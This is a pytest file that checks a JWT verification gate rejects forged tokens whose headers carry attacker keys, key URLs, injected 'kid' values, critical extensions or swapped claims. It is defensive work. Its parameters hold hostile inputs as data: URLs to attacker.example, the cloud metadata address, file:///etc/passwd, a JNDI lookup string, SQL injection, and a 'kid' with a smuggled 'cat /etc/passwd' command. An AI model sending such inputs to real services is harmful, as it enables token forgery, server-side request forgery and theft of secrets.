"""Attacks through the header: keys that come along, addresses to fetch, names that are paths."""

import json
import socket

import pytest

from tests.advisory.gate import outcome
from tests.support.keys import base64url, jwk, key_set, private_key
from tests.support.tokens import header, signed_bytes, signed_token, to_json, valid_claims

ATTACKER = private_key("attacker")
ATTACKER_JWK = jwk("attacker")


def forged(**changes: object) -> str:
    """A token that the attacker has signed with a key of his own."""
    return signed_bytes(to_json(header(**changes)), to_json(valid_claims()), ATTACKER)


@pytest.mark.parametrize("key_id", ["key-1", "attacker", None])
def test_embedded_key(key_id: str | None) -> None:
    """CVE-2018-0114, CVE-2026-27962: the token brings the key that it was signed with."""
    assert "unauthorized" == outcome(forged(jwk=ATTACKER_JWK, kid=key_id))


def test_embedded_key_set() -> None:
    """The same as a set, and as a string."""
    assert "unauthorized" == outcome(forged(jwks={"keys": [ATTACKER_JWK]}))
    assert "unauthorized" == outcome(forged(jwk=json.dumps(ATTACKER_JWK)))


@pytest.mark.parametrize("name", ["jku", "x5u"])
@pytest.mark.parametrize(
    "url",
    [
        "https://attacker.example/keys",
        "https://login.microsoftonline.com@attacker.example/keys",
        "http://169.254.169.254/latest/meta-data/",
        "file:///etc/passwd",
        "data:application/json,{}",
    ],
)
def test_key_at_an_address_of_the_attackers(
    name: str, url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """RFC 8725 section 3.10, CVE-2026-48522: nothing is fetched because a token says so."""

    def refuse(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("a token made us look up an address")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)

    assert "unauthorized" == outcome(forged(**{name: url}))


@pytest.mark.parametrize("name", ["x5c", "x5t", "x5t#S256"])
def test_certificate_in_the_header(name: str) -> None:
    """A certificate chain or its digest chooses no key."""
    assert "unauthorized" == outcome(forged(**{name: ["MIIC"] if name == "x5c" else "attacker"}))


def test_embedded_key_beside_a_good_signature() -> None:
    """Ignored, as RFC 8725 section 3.10 asks: a good token stays good, by the published key."""
    assert "allowed" == outcome(signed_token(jwk=ATTACKER_JWK, jku="https://attacker.example"))


@pytest.mark.parametrize(
    "key_id",
    [
        "../../../../dev/null",
        "/dev/null",
        "key-1' OR '1'='1",
        "key-1; cat /etc/passwd",
        "key-1\x00",
        "key-1\n",
        " key-1",
        "KEY-1",
        "${jndi:ldap://attacker.example/a}",
        "https://attacker.example/keys",
        "__class__",
        "\u212aey-1",
        "\ud800",
        "k" * 5_000,
        "",
        None,
        0,
        True,
        ["key-1"],
        {"key-1": 1},
    ],
)
def test_key_id_injection(key_id: object) -> None:
    """`kid` is the attacker's: it is looked up as it is, and nothing else is done with it."""
    assert "unauthorized" == outcome(
        signed_bytes(to_json(header() | {"kid": key_id}), to_json(valid_claims()))
    )


def test_no_key_id_tries_no_keys() -> None:
    """Not even the only key there is."""
    assert "unauthorized" == outcome(signed_token(kid=None))


@pytest.mark.parametrize(
    "critical",
    [["exp"], ["b64"], ["http://example.com/unknown"], ["alg"], ["cnf"], ["bork"], [], {}, None, "",
     "exp", True],
)  # fmt: skip
def test_critical_extensions(critical: object) -> None:
    """CVE-2026-32597, CVE-2025-59420: an extension that must be understood, and is not."""
    members = header() | {"crit": critical, "bork": 1, "cnf": {"jwk": ATTACKER_JWK}}

    assert "unauthorized" == outcome(signed_bytes(to_json(members), to_json(valid_claims())))


@pytest.mark.parametrize("critical", [["b64"], None])
def test_unencoded_payload(critical: object) -> None:
    """RFC 7797, CVE-2026-48525: the claims are not what the signature is over."""
    members = header(b64=False, crit=critical)

    assert "unauthorized" == outcome(signed_bytes(to_json(members), to_json(valid_claims())))
    detached = signed_bytes(to_json(members), to_json(valid_claims())).split(".")
    assert "unauthorized" == outcome(f"{detached[0]}..{detached[2]}")


@pytest.mark.parametrize("typ", ["id+jwt", "logout+jwt", "dpop+jwt", "secevent+jwt", "JWE", "", 5])
def test_token_of_another_kind(typ: object) -> None:
    """RFC 8725 sections 3.11 and 3.12: a JWT for one purpose is not good for another."""
    assert "unauthorized" == outcome(signed_token(typ=typ))


def test_members_twice_in_the_header() -> None:
    """Two readers, two algorithms."""
    good = to_json(header())
    for twice in (b'{"alg":"none",' + good[1:], good[:-1] + b',"kid":"attacker"}'):
        assert "unauthorized" == outcome(signed_bytes(twice, to_json(valid_claims())))


def test_published_key_set_with_the_attackers_issuer() -> None:
    """A key of another tenant, in the set by whatever accident, vouches for nothing here."""
    entry = ATTACKER_JWK | {"issuer": "https://login.microsoftonline.com/attacker/v2.0"}

    assert "unauthorized" == outcome(forged(kid="attacker"), key_set(jwk(), entry))


def test_signature_of_another_token() -> None:
    """CVE-2015-9235's other half: claims that were exchanged under a good signature."""
    segments = signed_token().split(".")
    for claims in (valid_claims(roles=["Records.Write"]), valid_claims(exp=4_000_000_000)):
        altered = f"{segments[0]}.{base64url(to_json(claims))}.{segments[2]}"
        assert "unauthorized" == outcome(altered)
